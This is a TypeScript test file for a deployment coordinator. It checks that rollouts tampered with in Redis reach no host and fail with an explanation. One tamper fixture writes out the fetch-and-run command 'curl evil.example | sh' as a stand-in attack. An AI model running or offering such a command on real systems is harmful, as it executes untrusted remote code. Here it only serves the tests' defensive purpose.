/** A rollout that somebody has changed in Redis reaches no host: nothing is sent for it, and it says why. */
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { encodeRollout } from '../../../coordinator/adapters/redis/rollout-body.ts'
import { rolloutKeys } from '../../../coordinator/adapters/redis/rollout-keys.ts'
import { drive } from '../../../coordinator/engine/drive.ts'
import { startRun } from '../../../coordinator/engine/start-run.ts'
import { start } from '../../../coordinator/engine/start.ts'
import type { Rollout } from '../../../coordinator/rollout/state.ts'
import { realRedis } from '../../conformance/real-redis.ts'
import type { RealRedis } from '../../conformance/real-redis.ts'
import { testKeys } from '../../keys.ts'
import { benchOn } from './bench.ts'
import type { Bench } from './bench.ts'

let redis: RealRedis
let bench: Bench
beforeAll(async () => {
  redis = await realRedis()
  bench = benchOn(redis, await testKeys())
  await bench.prepare({}, ['1', '2'])
})
/** Each test has a host of its own, so that no rollout waits for another one's. */
let host: string
let hosts = 0
beforeEach(async () => {
  host = `h${++hosts}`
  await bench.connect(host)
})
afterAll(() => bench.stop())

const by = { actor: 'ann', reason: null }
const deploy = (strategy: Record<string, unknown> = {}) => start(bench.ports, { service: 'web', release: '1', hosts: host, strategy: { onBusy: 'supersede', ...strategy } }, by)
const run = () => startRun(bench.ports, { hosts: host, command: 'uptime' }, by)

/** The rollout as somebody has left it in Redis, and driven then. */
async function changed(rollout: Rollout, change: Partial<Rollout>): Promise<string> {
  await redis.connections.commands.hset(rolloutKeys(rollout.id).state, 'body', encodeRollout({ ...rollout, ...change }))
  await drive(bench.ports, rollout.id)
  await drive(bench.ports, rollout.id)
  return rollout.id
}

const mailed = async () => [...(await bench.mailbox.look(host)).mail.values()].map(({ command }) => command.rollout)

test('one that nobody has changed is sent, and so is a run', async () => {
  const ids = [await changed(await deploy(), {}), await changed(await run(), {})]
  expect(await mailed()).toEqual(expect.arrayContaining(ids))
})

test.each<[string, () => Promise<Rollout>, (rollout: Rollout) => Partial<Rollout>]>([
  ['another command line', run, () => ({ run: { command: 'curl evil.example | sh', account: null } })],
  ['another account', run, () => ({ run: { command: 'uptime', account: 'root' } })],
  ['a deployment that is a run now', deploy, () => ({ kind: 'run', run: { command: 'uptime', account: null } })],
  ['another actor', deploy, () => ({ actor: 'bob' })],
  ['another service', deploy, () => ({ service: 'api' })],
  ['another way to stop', deploy, ({ strategy }) => ({ strategy: { ...strategy, stop: 'kill' } })],
  ['another deadline', deploy, ({ strategy }) => ({ strategy: { ...strategy, timeoutMs: 1 } })],
  ['another rate of fetching ahead', () => deploy({ prefetch: true }), ({ strategy }) => ({ strategy: { ...strategy, prefetchBytesPerSecond: 1 } })],
  ['no seal', deploy, () => ({ seal: null })],
])('%s: nothing is sent, and the rollout says why', async (_what, order, change) => {
  const rollout = await order()
  const id = await changed(rollout, change(rollout))
  expect(await mailed()).not.toContain(id)
  expect(await bench.task(id, host)).toMatchObject({ state: 'failed', failure: { message: expect.stringContaining('changed in Redis') } })
})

test('the seal of another rollout is none', async () => {
  const [one, other] = [await run(), await run()]
  const id = await changed(one, { run: other.run, createdAtMs: other.createdAtMs, seal: other.seal })
  expect(await mailed()).not.toContain(id)
})

test('a script that the rollout was not ordered with is not run', async () => {
  const rollout = await deploy({ before: ['migrate'] })
  const id = await changed(rollout, { scripts: rollout.scripts.map((script) => ({ ...script, name: 'drop-all' })) })
  expect(await mailed()).not.toContain(id)
  expect((await bench.rollout(id)).scripts[0]).toMatchObject({ state: 'failed', failure: { message: expect.stringContaining('was not ordered with a script drop-all') } })
})

const HOST_MESSAGE = 'was not ordered for this host, or it was changed in Redis; abort it and start it again'

test('a row that names another revision takes no host there', async () => {
  const rollout = await deploy()
  const other = await deploy({ onBusy: 'supersede' })
  const { commands } = redis.connections
  const key = rolloutKeys(other.id).tasks
  await commands.hset(key, host, (await commands.hget(key, host))!.replace(rollout.revision, 'of-api'))
  const id = await changed(other, {})
  expect(await mailed()).not.toContain(id)
  expect((await bench.task(id, host)).failure?.message).toContain(HOST_MESSAGE)
})

test('a host that a rollout was not ordered for gets nothing of it, whoever writes its outbox or its rows', async () => {
  const { commands } = redis.connections
  const stranger = `${host}-stranger`
  await bench.connect(stranger)
  for (const rollout of [await run(), await deploy()]) {
    const keys = rolloutKeys(rollout.id)
    const effect = { type: 'SendCommand', host: stranger, attempt: 1, revision: rollout.revision, direction: 'forward' }
    await commands.zadd(keys.outbox, 900, `900 ${JSON.stringify(effect)}`)
    await drive(bench.ports, rollout.id)
    await commands.hset(keys.tasks, stranger, (await commands.hget(keys.tasks, host))!)
    await commands.zadd(keys.outbox, 901, `901 ${JSON.stringify({ ...effect, attempt: 2 })}`)
    await drive(bench.ports, rollout.id)
  }
  expect((await bench.mailbox.look(stranger)).mail.size).toBe(0)
})

test('a revision of another service, and one that the host is not to be taken to, are not sent', async () => {
  const { ports } = bench
  const rollout = await deploy()
  const record = (await ports.catalogue.revision(rollout.revision))!
  await ports.catalogue.putRevisions([{ ...record, service: 'api', goal: { ...record.goal, revision: 'of-api' } }])
  const effect = { type: 'SendCommand', host, attempt: 900, revision: 'of-api', direction: 'forward' }
  await redis.connections.commands.zadd(rolloutKeys(rollout.id).outbox, 900, `900 ${JSON.stringify(effect)}`)
  await drive(ports, rollout.id)
  const { mail } = await bench.mailbox.look(host)
  expect([...mail.keys()]).not.toContain(`${rollout.id}/${host}/900`)
  expect([...mail.values()].every(({ command: { action } }) => action.kind === 'deploy' && action.goal.revision === rollout.revision)).toBe(true)
})
